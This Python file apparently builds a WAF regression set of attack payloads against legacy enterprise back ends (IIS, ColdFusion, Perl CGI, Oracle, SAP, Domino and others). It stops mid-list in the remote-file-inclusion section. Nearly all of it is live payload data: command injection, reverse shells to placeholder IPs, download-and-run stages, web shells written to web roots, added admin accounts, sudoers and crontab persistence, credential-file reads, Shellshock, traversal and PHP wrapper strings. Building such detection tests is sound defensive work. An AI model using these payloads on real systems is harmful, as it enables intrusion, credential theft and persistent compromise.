"""Blind set "hundredninetyseventh": OS command injection, local file inclusion / path traversal and remote file
inclusion aimed at the legacy and enterprise back ends still running behind modern edges, with benign requests
that carry the same words innocently.

The angle: legacy and enterprise platforms, recalled from memory. Each payload is written the way it is aimed at
one of the older back ends an edge still fronts: classic ASP and ASP.NET WebForms on IIS, ColdFusion, Perl CGI,
Oracle PL/SQL gateways and E-Business Suite, DB2, Informix and Sybase hosts, IBM WebSphere and Lotus Domino, SAP
NetWeaver, JBoss and WebLogic consoles, old PHP CMSs (Mambo, Joomla 1.x, phpBB 2, osCommerce, Drupal 6), Struts 1
and 2, Tomcat managers, mainframe and AS/400 (IBM i PASE) web gateways, SOAP and XML-RPC services. Each uses its
platform's own paths, parameters and quirks (IIS Unicode and double-decode traversal, ColdFusion's locale
parameter, Perl's open() pipe, Tomcat's `..;`, the Domino .nsf path, PASE's `system` CL bridge, register_globals
include variables) and still reaches its real target: the shell, cmd.exe or PowerShell behind the product, a
file on its disk, or a script the interpreter fetches and runs. A comment above each group names the family, the
platform and the target.

Families (one sub-family per detection title):
  rce: unix-command-injection, unix-shell-evasion, windows-cmd-injection, powershell, unix-command-with-path,
    reverse-shell, shellshock, downloader, shell-file-write, restricted-file-in-command
  lfi: path-traversal, os-file-access, absolute-path, null-byte-truncation, php-wrapper-lfi, log-poisoning-target,
    restricted-file-extension
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    remote-protocol

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), under parameter names the platform's own forms use (host, cmd, file, page,
template, locale, url, include), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, form body, JSON body, XML body, a raw
form-typed body, or in User-Agent, Referer, a custom header or a cookie. Shellshock strings go only where CGI
turns them into environment variables (User-Agent, Referer, a custom header); register_globals and
include-parameter pairs written as `name=value` go unquoted as the form or raw body. Payloads with control
characters (newline, NUL) never go into headers, cookies, the path or XML; the path carries only one segment.

Authorship and independence: written for this repository from general knowledge of each attack family and of
the platforms named, as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "hundredninetyseventh"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
KV = ("form", "rs-raw-body")
QKV = ("query", "rs-param-name")


def _ps(command: str) -> str:
    """A PowerShell -EncodedCommand argument: the command as UTF-16LE, base64."""
    return base64.b64encode(command.encode("utf-16le")).decode()


def _cgi(payloads: list[str]) -> list[Entry]:
    """Shellshock strings pinned to the headers a CGI gateway exports as HTTP_* variables, in turn."""
    places = [("header:User-Agent", "rs-header:User-Agent"), ("header:Referer", "rs-header:Referer"),
              ("header:X-Api-Version", "rs-header:X-Test-Header")]
    return [(p,) + places[i % len(places)] for i, p in enumerate(payloads)]


# ================================================================================================================
# rce
# ================================================================================================================
# unix-command-injection: the classic separators (; | || && ` $() newline) closing the argument a legacy
# handler passes to /bin/sh
UNIX_INJECTION: list[Entry] = [
    # Perl CGI ping/traceroute form (system("ping -c 3 $host")), target /bin/sh on Solaris/Linux
    "127.0.0.1; id",
    "127.0.0.1 | id",
    "127.0.0.1 || uname -a",
    "127.0.0.1 && cat /etc/passwd",
    "127.0.0.1`id`",
    "127.0.0.1$(id)",
    "127.0.0.1\nid",
    # Perl CGI open(FH, "$file"): a leading or trailing pipe makes open() run the argument, target the shell
    "|id|",
    "report.txt;id|",
    # ColdFusion <cfexecute name="/usr/bin/nslookup" arguments="#form.domain#">, target the shell behind it
    "example.com; id",
    # Oracle E-Business Suite concurrent-request viewer passing a file name to sh, target the applmgr shell
    "o1234567.out; ls -la $APPL_TOP",
    "o1234567.out | cat $CONTEXT_FILE",
    # SAP NetWeaver external OS command (SM69-style wrapper fed from a web front end), target the <sid>adm shell
    "PRD; cat /usr/sap/PRD/SYS/profile/DEFAULT.PFL",
    # DB2 and Informix admin consoles shelling out to the db2/onstat CLIs, target the instance owner's shell
    "SAMPLE; db2 list database directory",
    "SAMPLE | su - db2inst1 -c 'db2 list tablespaces show detail'",
    # Sybase ASE web monitor calling isql, target the sybase user's shell
    "SYBASE; isql -Usa -P '' -SSYBASE -i /tmp/q.sql",
    # IBM i (AS/400) PASE web gateway: `system` runs a CL command from the PASE shell
    "QGPL; system 'DSPUSRPRF USRPRF(QSECOFR)'",
    # Lotus Domino on AIX, a server-side agent passing a database name to sh
    "names.nsf; cat /local/notesdata/notes.ini",
]

# unix-shell-evasion: quotes, ${IFS}, globbing, brace expansion and variables that hide the command from filters,
# target bash/ksh/sh behind the same legacy handlers
UNIX_EVASION: list[Entry] = [
    # Perl CGI host parameter with spaces filtered: ${IFS}, $IFS$9 and brace expansion
    ";cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    ";{cat,/etc/passwd}",
    ";cat</etc/passwd",
    # quote and backslash splitting against keyword blacklists (ColdFusion/ASP input filters)
    ";c'a't /etc/passwd",
    ";ca\\t /et\\c/pa\\ss\\wd",
    ";w'h'o'am'i",
    ";who$()ami",
    # globbing: no literal command or file name at all
    ";/???/c?t /???/p?ss??",
    ";/bin/c[a]t /etc/pas[s]wd",
    # variables assembled at run time
    ";a=ca;b=t;$a$b /etc/passwd",
    ";X=$'\\x63\\x61\\x74';$X /etc/passwd",
    ";cat${HOME:0:1}etc${HOME:0:1}passwd",
    # encoded and reversed commands decoded by the shell
    ";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    ";$(printf '\\151\\144')",
    ";rev<<<'dwssap/cte/ tac'|sh",
    # ksh on AIX (WebSphere/DB2 hosts): the same tricks with its own expansions
    ";ksh -c 'c''at /et''c/security/passwd'",
    ";tac${IFS}/opt/IBM/WebSphere/AppServer/profiles/AppSrv01/properties/soap.client.props",
]

# windows-cmd-injection: & | && || and carets against cmd.exe behind classic ASP (WScript.Shell.Exec), ASP.NET
# WebForms (Process.Start), ColdFusion on Windows and Domino/SAP on Windows servers
WINDOWS_CMD: list[Entry] = [
    # classic ASP ping page: Shell.Exec("cmd /c ping " & Request("host"))
    "127.0.0.1 & dir c:\\",
    "127.0.0.1 | type C:\\Windows\\win.ini",
    "127.0.0.1 && net user",
    "127.0.0.1 || whoami /priv",
    "127.0.0.1 & net localgroup administrators",
    # ASP.NET WebForms export button running a batch file with the report name
    "report.csv & type c:\\inetpub\\wwwroot\\web.config",
    "report.csv & type C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config",
    "report.csv && %windir%\\system32\\inetsrv\\appcmd.exe list vdir",
    # caret and quote escaping that cmd.exe strips before running
    "x & who^am^i",
    "x & c^m^d /c \"who\"\"ami\"",
    "x & set",
    # blind: time and DNS as the oracle
    "x & ping -n 11 127.0.0.1",
    "x & for /f %i in ('whoami') do nslookup %i.oast.example.net",
    # Lotus Domino and SAP on Windows: the product's own secrets
    "x & type \"C:\\Program Files\\IBM\\Domino\\notes.ini\"",
    "x & type C:\\usr\\sap\\PRD\\SYS\\profile\\DEFAULT.PFL",
    "x & reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Winlogon",
    "x & net user websvc Passw0rd! /add & net localgroup administrators websvc /add",
]

# powershell: PowerShell launched from the same cmd.exe injection points (IIS, ASP.NET, SharePoint-era hosts)
POWERSHELL: list[Entry] = [
    "x & powershell -nop -c \"Get-Content C:\\inetpub\\wwwroot\\web.config\"",
    "x & powershell -enc " + _ps("whoami /all"),
    "x | powershell -NoProfile -EncodedCommand " + _ps("Get-ChildItem C:\\inetpub -Recurse -Filter *.config"),
    "x & powershell IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
    "x & powershell -w hidden -ep bypass -c \"iwr http://198.51.100.7/s.ps1 -UseBasicParsing|iex\"",
    "x & powershell Invoke-WebRequest http://198.51.100.7/s.aspx -OutFile C:\\inetpub\\wwwroot\\aspnet_client\\s.aspx",
    "x & powershell -c \"[Environment]::UserName; [Environment]::MachineName\"",
    "x & powershell Start-Process cmd -ArgumentList '/c net user ops P@ssw0rd1 /add'",
    "x & powershell -c \"Get-WmiObject Win32_Service | ? {$_.Name -like 'SAP*'} | select Name,PathName\"",
    "x & powershell -c \"Get-ItemProperty 'HKLM:\\SOFTWARE\\Lotus\\Domino'\"",
    "x & powershell -ExecutionPolicy Bypass -File \\\\198.51.100.7\\tools\\run.ps1",
    "x & powershell -c \"IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))\"",
    "x & powershell -c \"Import-Module WebAdministration; Get-ChildItem IIS:\\AppPools\"",
    "x & powershell -c \"Get-Content 'C:\\ColdFusion2016\\cfusion\\lib\\password.properties'\"",
    "x & powershell -c \"(gc C:\\Windows\\Panther\\Unattend.xml) -match 'Password'\"",
    "x & powershell -c \"Invoke-Expression (Invoke-RestMethod http://203.0.113.10/stage2)\"",
]

# unix-command-with-path: full binary paths instead of bare names (the handler clears PATH), targets the shells
# on Linux, AIX, Solaris and IBM i PASE hosts
UNIX_PATHS: list[Entry] = [
    ";/bin/cat /etc/passwd",
    "|/usr/bin/id",
    ";/usr/bin/whoami",
    ";/sbin/ifconfig -a",
    "|/bin/ls -la /opt/jboss/server/default/conf",
    ";/bin/ps -ef | /bin/grep ora_pmon",
    ";/usr/bin/find / -perm -4000 -type f",
    ";/opt/ibm/db2/V11.5/bin/db2level",
    ";/QOpenSys/usr/bin/system 'DSPSYSVAL SYSVAL(QSECURITY)'",
    ";/usr/bin/perl -e 'print qx(id)'",
    "`/usr/bin/id`",
    "$(/bin/hostname)",
    ";/u01/app/oracle/product/19.0.0/dbhome_1/bin/sqlplus -S / as sysdba @/tmp/q.sql",
    ";/usr/bin/curl -s file:///etc/passwd",
    ";/usr/bin/oslevel -s",
    ";/opt/IBM/WebSphere/AppServer/bin/serverStatus.sh -all",
    ";/usr/bin/nslookup `whoami`.oast.example.net",
]

# reverse-shell: an interactive shell back to the tester (bash /dev/tcp, nc, python, perl, socat, ksh, telnet)
REVERSE: list[Entry] = [
    ";bash -i >& /dev/tcp/203.0.113.10/4444 0>&1",
    "|bash -c 'bash -i >& /dev/tcp/203.0.113.10/443 0>&1'",
    ";0<&196;exec 196<>/dev/tcp/203.0.113.10/4444; sh <&196 >&196 2>&196",
    ";nc -e /bin/sh 203.0.113.10 4444",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.10 4444 >/tmp/f",
    # Perl CGI hosts always have perl
    ";perl -e 'use Socket;$i=\"203.0.113.10\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    ";perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"203.0.113.10:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);"
    "system$_ while<>;'",
    ";python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    "s.connect((\"203.0.113.10\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
    "subprocess.call([\"/bin/sh\",\"-i\"])'",
    ";python3 -c 'import pty,socket,os;s=socket.socket();s.connect((\"203.0.113.10\",4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'",
    ";socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.10:4444",
    # AIX and Solaris (WebSphere, DB2, Oracle hosts): ksh93 /dev/tcp and the telnet pair
    ";ksh -c 'ksh -i >/dev/tcp/203.0.113.10/4444 2>&1 0>&1'",
    ";telnet 203.0.113.10 4444 | /bin/sh | telnet 203.0.113.10 4445",
    ";mknod /tmp/p p && telnet 203.0.113.10 4444 0</tmp/p | /bin/sh 1>/tmp/p",
    # the PHP and Ruby interpreters of old CMS and Rails-era boxes
    ";php -r '$s=fsockopen(\"203.0.113.10\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    ";ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.10\",4444).to_i;"
    "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    # Windows hosts (IIS, ColdFusion, Domino on Windows)
    "x & nc.exe -e cmd.exe 203.0.113.10 4444",
    "x & powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('203.0.113.10',4444);$s=$c.GetStream();"
    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding)"
    ".GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$x=([Text.Encoding]::ASCII).GetBytes($o);"
    "$s.Write($x,0,$x.Length)}\"",
]

# shellshock: bash function definitions in headers a CGI gateway exports (Perl/bash CGI on Apache and IBM HTTP
# Server, cgi-bin monitoring pages of appliances), target bash
SHELLSHOCK: list[Entry] = _cgi([
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    "() { :;}; echo; /usr/bin/id",
    "() { _; } >_[$($())] { /bin/id; }",
    "() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.10/4444 0>&1",
    "() { :; }; /usr/bin/wget http://198.51.100.7/x -O /tmp/x",
    "() { :;}; echo Content-Type: text/plain; echo; /bin/cat /etc/shadow",
    "() { (a)=>\\' /bin/bash -c 'echo vulnerable'",
    "() { :; }; /bin/sleep 20",
    "() { ignored; }; /bin/ping -c 3 203.0.113.10",
    "() { :; }; /usr/bin/nslookup shock.oast.example.net",
    "() { :; }; /bin/sh -c 'nc 203.0.113.10 4444 -e /bin/sh'",
    "() { :; }; echo \"X-Shock: $(/usr/bin/id)\"",
    "() { :; }; /bin/cat /opt/IBM/HTTPServer/conf/httpd.conf",
    "() { :; }; /usr/bin/curl -d @/etc/passwd http://198.51.100.7/",
    "() { :; }; /bin/bash -c 'echo \"* * * * * root /tmp/x\" >> /etc/crontab'",
    "() { :;}; /usr/bin/perl -e 'print qx(cat /etc/passwd)'",
])

# downloader: fetch a second stage and run it (curl/wget | sh and the tools old hosts carry: lwp-download, GET,
# fetch, tftp; certutil, bitsadmin, mshta, regsvr32 on Windows)
DOWNLOADER: list[Entry] = [
    ";wget http://198.51.100.7/x.sh -O /tmp/x.sh;sh /tmp/x.sh",
    "|curl -s http://198.51.100.7/s|sh",
    "$(curl -fsSL http://198.51.100.7/k.sh|bash)",
    "`wget -q -O - 198.51.100.7/x|sh`",
    # Perl CGI boxes: libwww-perl's command-line tools
    ";lwp-download http://198.51.100.7/p.pl /tmp/p.pl;perl /tmp/p.pl",
    ";GET http://198.51.100.7/bot.pl | perl",
    # BSD and busybox appliances
    ";fetch -o - http://198.51.100.7/x | sh",
    ";cd /tmp;tftp -g -r m.sh 198.51.100.7;sh m.sh",
    # Java app servers: drop a WAR into the hot-deploy folder (JBoss 4, Tomcat)
    ";curl -o /opt/jboss/server/default/deploy/cmd.war http://198.51.100.7/cmd.war",
    ";wget http://198.51.100.7/cmd.war -P /opt/tomcat/webapps/",
    ";python -c \"import urllib;exec(urllib.urlopen('http://198.51.100.7/p.py').read())\"",
    # Windows (IIS, ColdFusion, Domino on Windows)
    "x & certutil -urlcache -split -f http://198.51.100.7/nc.exe C:\\Windows\\Temp\\nc.exe",
    "x & bitsadmin /transfer j /download /priority high http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
    "x & mshta http://198.51.100.7/p.hta",
    "x & regsvr32 /s /n /u /i:http://198.51.100.7/f.sct scrobj.dll",
    ";echo 'open 198.51.100.7\nuser anonymous x\nget x.sh\nbye' | ftp -n;sh x.sh",
]

# shell-file-write: echo / tee / printf / cp into the web root or the system's trust files, targets the shell and
# then the product that serves the written file
FILE_WRITE: list[Entry] = [
    # classic ASP and ASP.NET web shells written with cmd.exe echo (carets escape < > for cmd)
    "x & echo ^<%eval request(\"c\")%^> > C:\\inetpub\\wwwroot\\d.asp",
    "x & echo ^<%@ Page Language=\"Jscript\"%^>^<%eval(Request.Item[\"c\"],\"unsafe\");%^> > "
    "C:\\inetpub\\wwwroot\\aspnet_client\\s.aspx",
    # ColdFusion web root
    ";echo '<cfexecute name=\"/bin/sh\" arguments=\"-c #url.c#\" timeout=\"9\"/>' > /opt/coldfusion/wwwroot/c.cfm",
    # JSP into Tomcat and JBoss deploy folders
    ";printf '<%%Runtime.getRuntime().exec(request.getParameter(\"c\"));%%>' > /opt/tomcat/webapps/ROOT/c.jsp",
    ";echo '<%=new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"c\")).getInputStream())"
    ".useDelimiter(\"\\\\A\").next()%>' | tee /opt/jboss/server/default/deploy/ROOT.war/s.jsp",
    # Perl CGI and PHP CMS web roots
    ";echo '#!/usr/bin/perl' > /var/www/cgi-bin/e.cgi;"
    "echo 'print \"Content-type: text/plain\\n\\n\",`$ENV{QUERY_STRING}`'"
    " >> /var/www/cgi-bin/e.cgi;chmod 755 /var/www/cgi-bin/e.cgi",
    ";echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/images/s.php",
    ";echo PD9waHAgZXZhbCgkX1BPU1RbMF0pOz8+ | base64 -d | tee /var/www/html/cache/c.php",
    # persistence in the system's own files
    ";echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 tester@lab' >> ~/.ssh/authorized_keys",
    ";echo '* * * * * root bash -i >& /dev/tcp/203.0.113.10/4444 0>&1' >> /etc/crontab",
    ";echo 'hax::0:0::/:/bin/sh' >> /etc/passwd",
    ";echo 'ALL ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    "|tee -a /etc/hosts.equiv <<< '+ +'",
    # copy secrets where the web server serves them
    "x & copy C:\\Windows\\repair\\sam C:\\inetpub\\wwwroot\\sam.txt",
    "x & type C:\\inetpub\\wwwroot\\web.config > C:\\inetpub\\wwwroot\\images\\w.txt",
    # IBM i PASE: write a CL-calling script into the HTTP server's IFS document root
    ";echo 'system \"CRTUSRPRF USRPRF(TESTR) PASSWORD(X1) USRCLS(*SECOFR)\"' > /www/apachedft/htdocs/u.sh",
]

# restricted-file-in-command: commands that read the credentials and configuration files of the platform
RESTRICTED_FILES: list[Entry] = [
    ";cat /etc/shadow",
    "|more /etc/passwd",
    ";cat /root/.bash_history",
    ";cat ~/.ssh/id_rsa",
    ";cat /etc/security/passwd",
    ";cat /home/db2inst1/sqllib/db2nodes.cfg",
    ";grep -r password /opt/jboss/server/default/conf/props/",
    ";cat /opt/tomcat/conf/tomcat-users.xml",
    ";cat /u01/oracle/user_projects/domains/base_domain/servers/AdminServer/security/boot.properties",
    ";cat /opt/coldfusion/lib/password.properties",
    ";strings /local/notesdata/names.nsf | head",
    ";cat /opt/informix/etc/sqlhosts",
    ";cat /u01/app/oracle/product/11.2.0/dbhome_1/network/admin/listener.ora",
    ";cat /usr/sap/PRD/SYS/global/security/data/SecStore.properties",
    "x & type C:\\boot.ini",
    "x & type C:\\Windows\\System32\\config\\SAM",
    "x & type C:\\Windows\\Panther\\Unattend.xml",
]

# ================================================================================================================
# lfi
# ================================================================================================================

# path-traversal: ../ and ..\ in the encodings each legacy server decodes (IIS %u and overlong UTF-8, IIS double
# decode, Tomcat's `..;`, Apache 2.4.49/50, Struts 2 static content), target the product's file reader
TRAVERSAL: list[Entry] = [
    # a download.asp / getfile.cfm / view.pl `file` parameter, plain
    "../../../../../../etc/passwd",
    "..\\..\\..\\..\\..\\windows\\win.ini",
    "../../../../../../../../boot.ini",
    # percent-encoded once and twice (the app decodes again after the server did)
    "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%255c%252e%252e%255c%252e%252e%255cwindows%255cwin.ini",
    "..%5c..%5c..%5c..%5cboot.ini",
    # IIS 4/5: overlong UTF-8 and %u encodings of the separator
    "..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "..%c1%9c..%c1%9c..%c1%9cwinnt%c1%9cwin.ini",
    "..%c0%9v..%c0%9v..%c0%9vboot.ini",
    "%uff0e%uff0e%u2215%uff0e%uff0e%u2215windows%u2215win.ini",
    "..%u2216..%u2216..%u2216windows%u2216win.ini",
    # strip-once filters (str_replace("../", "") in old PHP CMSs, Replace(path, "..\", "") in ASP)
    "....//....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "....\\\\....\\\\....\\\\windows\\\\win.ini",
    "..\\/..\\/..\\/..\\/etc/passwd",
    # Java servlet containers: WEB-INF through the path or a file parameter
    "../../WEB-INF/web.xml",
    "..%2F..%2FWEB-INF%2Fweb.xml",
    "..;/..;/..;/WEB-INF/web.xml",
    "/..;/manager/html",
    "/struts/..%252f..%252f..%252fWEB-INF/web.xml",
    "/console/css/%252e%252e%252fconsole.portal",
    # Apache 2.4.49 / 2.4.50 cgi-bin traversal, and Lotus Domino's .nsf path
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd",
    "/.nsf/../../../../../../boot.ini",
    "/%20%20%20.nsf/..\\..\\..\\..\\winnt\\win.ini",
]

# os-file-access: the operating system's own files through a file, page or doc parameter
OS_FILES: list[Entry] = [
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/hosts",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/proc/self/status",
    "/proc/version",
    "/proc/net/tcp",
    "/proc/self/cwd/WEB-INF/web.xml",
    "c:\\windows\\win.ini",
    "C:\\boot.ini",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "C:\\Windows\\repair\\sam",
    "C:\\Windows\\Panther\\Unattend.xml",
    "C:\\WINNT\\system32\\config\\SAM",
    "../web.config",
    "..\\..\\global.asa",
    "../../.htaccess",
    "../../.htpasswd",
    "../.git/config",
    "../../.git/HEAD",
    "../../../.env",
    "/root/.ssh/id_rsa",
    "/home/oracle/.ssh/id_rsa",
    "/home/db2inst1/.bash_history",
    "../WEB-INF/struts-config.xml",
    "../WEB-INF/classes/struts.xml",
]

# absolute-path: full paths to the configuration and credential files of each enterprise product
ABSOLUTE: list[Entry] = [
    # IBM WebSphere
    "/opt/IBM/WebSphere/AppServer/profiles/AppSrv01/config/cells/Cell01/security.xml",
    "/opt/IBM/WebSphere/AppServer/profiles/AppSrv01/config/cells/Cell01/fileRegistry.xml",
    # Oracle database and E-Business Suite
    "/u01/app/oracle/product/11.2.0/dbhome_1/network/admin/tnsnames.ora",
    "/u01/oracle/PROD/inst/apps/PROD_ebs01/appl/admin/PROD_ebs01.xml",
    "/u01/oracle/PROD/fs1/inst/apps/PROD_ebs01/appl/fnd/12.0.0/secure/PROD.dbc",
    # JBoss and WebLogic
    "/opt/jboss/server/default/conf/props/jmx-console-users.properties",
    "/opt/jboss/standalone/configuration/standalone.xml",
    "/u01/oracle/Middleware/user_projects/domains/base_domain/config/config.xml",
    "/u01/oracle/Middleware/user_projects/domains/base_domain/security/SerializedSystemIni.dat",
    # ColdFusion on Windows
    "C:\\ColdFusion9\\lib\\password.properties",
    "C:\\ColdFusion10\\cfusion\\lib\\neo-datasource.xml",
    # IIS and ASP.NET
    "C:\\inetpub\\wwwroot\\web.config",
    "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config",
    "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Config\\machine.config",
    # SAP NetWeaver
    "/usr/sap/PRD/SYS/profile/DEFAULT.PFL",
    "/usr/sap/PRD/SYS/global/security/data/SecStore.key",
    # DB2, Informix, Sybase
    "/home/db2inst1/sqllib/db2dump/db2diag.log",
    "/opt/IBM/informix/etc/onconfig.std",
    "/opt/sap/interfaces",
    # Lotus Domino
    "/local/notesdata/notes.ini",
    "C:\\Lotus\\Domino\\Data\\names.nsf",
    # IBM i (AS/400) IFS and library file system
    "/QSYS.LIB/QGPL.LIB/QCLSRC.FILE/QSTRUP.MBR",
    "/QIBM/UserData/HTTPA/admin/conf/httpd.conf",
    # Tomcat, Apache and old PHP CMS configuration
    "/opt/tomcat/conf/tomcat-users.xml",
    "/usr/local/apache/conf/httpd.conf",
    "/var/www/joomla/configuration.php",
    "/var/www/drupal/sites/default/settings.php",
]

# null-byte-truncation: NUL and path-length truncation that cut the extension the legacy code appends (PHP < 5.3.4,
# Perl open(), Java before 7u40, ColdFusion 8)
NULL_BYTE: list[Entry] = [
    "../../../../../../etc/passwd\x00",
    "../../../../../../etc/passwd%00",
    "../../../../../../etc/passwd%00.html",
    "../../../../../../etc/passwd%2500.php",
    "../../../../../../etc/passwd\x00.jpg",
    "..\\..\\..\\..\\boot.ini%00.asp",
    "..\\..\\..\\..\\windows\\win.ini%00.aspx",
    # ColdFusion 8 administrator locale parameter (the classic password.properties read)
    "../../../../../../../lib/password.properties%00en",
    "..\\..\\..\\..\\..\\..\\..\\..\\ColdFusion8\\lib\\password.properties%00en",
    "../../../../../../../../../../JRun4/servers/cfusion/cfusion-ear/cfusion-war/WEB-INF/cfusion/lib/"
    "password.properties%00en",
    # Perl CGI page templates: page.cgi?page=...%00.html
    "../../../../../../etc/passwd%00.tmpl",
    "/etc/passwd\x00.txt",
    # Java before 7u40: the NUL ends the File name
    "../../../WEB-INF/web.xml%00.jsp",
    "../../../WEB-INF/web.xml\x00.html",
    # old PHP CMS include with an appended extension
    "../../../../etc/passwd%00.inc",
    "....//....//....//etc/passwd%00.tpl",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd%00",
    # path-length truncation past PHP's MAXPATHLEN, and Windows' trailing-dot stripping
    "../../../../etc/passwd" + "/." * 2048,
    "../../../../etc/passwd" + "./" * 2050,
    "../../../../boot.ini" + "." * 260,
    "/etc/passwd" + "/" * 4100 + ".php",
]

# php-wrapper-lfi: PHP stream wrappers through the include parameters of old PHP CMSs, target the PHP interpreter
PHP_WRAPPER: list[Entry] = [
    "php://filter/convert.base64-encode/resource=config.php",
    "php://filter/read=string.rot13/resource=index.php",
    "php://filter/convert.base64-encode/resource=../configuration.php",
    "php://filter/convert.base64-encode/resource=../sites/default/settings.php",
    "php://filter/convert.base64-encode/resource=../../includes/configure.php",
    "php://filter/read=convert.base64-encode/resource=../config.php",
    "php://filter/string.toupper|string.rot13/resource=../config.inc.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "php://filter/convert.iconv.utf-8.utf-16le/resource=../wp-config.php",
    "php://filter/resource=/etc/passwd",
    "pHp://FilTer/convert.base64-encode/resource=../../globals.php",
    "php://input",
    "php://fd/3",
    "file:///etc/passwd",
    "file://localhost/c:/windows/win.ini",
    "compress.zlib:///etc/passwd",
    "phar:///var/www/html/images/avatars/1.jpg/x.php",
    "zip://../uploads/avatar.zip%23shell.php",
    "zip:///var/www/html/media/docs.zip#cmd.php",
    "glob:///var/www/html/*.php",
]

# log-poisoning-target: logs, sessions and descriptors a tester first writes PHP/JSP code into and then includes
LOG_TARGETS: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "../../../../var/log/httpd/access_log",
    "/var/log/apache/error.log",
    "/usr/local/apache/logs/access_log",
    "/var/log/nginx/access.log",
    "../../../../proc/self/fd/2",
    "/proc/self/fd/10",
    "/var/log/auth.log",
    "/var/log/vsftpd.log",
    "/var/mail/www-data",
    "/var/lib/php5/sess_9a7c1f2e3d4b5a6c",
    "/tmp/sess_9a7c1f2e3d4b5a6c",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240601.log",
    "C:\\WINNT\\system32\\LogFiles\\W3SVC1\\ex020101.log",
    "/opt/IBM/HTTPServer/logs/access_log",
    "/opt/IBM/WebSphere/AppServer/profiles/AppSrv01/logs/server1/SystemOut.log",
    "/opt/jboss/server/default/log/server.log",
    "/opt/tomcat/logs/catalina.out",
    "C:\\ColdFusion9\\logs\\application.log",
    "/local/notesdata/IBM_TECHNICAL_SUPPORT/console.log",
    "/usr/sap/PRD/DVEBMGS00/work/dev_w0",
]

# restricted-file-extension: backups, leftovers and configuration files the servers would otherwise never serve
RESTRICTED_EXT: list[Entry] = [
    "web.config.bak",
    "../Web.config.old",
    "global.asa.bak",
    "../includes/conn.asp.bak",
    "default.asp.old",
    "../fpdb/shop.mdb",
    "../database/users.mdb",
    "../_vti_pvt/service.pwd",
    "Application.cfm.bak",
    "../WEB-INF/web.xml.bak",
    "config.inc.php.bak",
    "../configuration.php.old",
    "../backup/ebs_prod_full.sql",
    "../db/dump.sql",
    "../conf/app.ini",
    "../../php.ini",
    "C:\\Program Files\\MySQL\\my.ini",
    "/etc/odbc.ini",
    "../settings.ini",
    "../config/database.yml.orig",
    "../sqlnet.ora.bak",
]

# ================================================================================================================
# rfi
# ================================================================================================================

# url-with-ip-address: the include target on a bare IP (decimal, hex and octal too), the script a PHP include,
# a JSTL <c:import>, a ColdFusion cfhttp-then-cfinclude or a Perl `do` fetches and runs
RFI_IP: list[Entry] = [
    # PHP include() with allow_url_include on (Mambo, phpBB 2, osCommerce era)
    "http://198.51.100.7/shell.txt",
    "http://198.51.100.7/c99.txt",
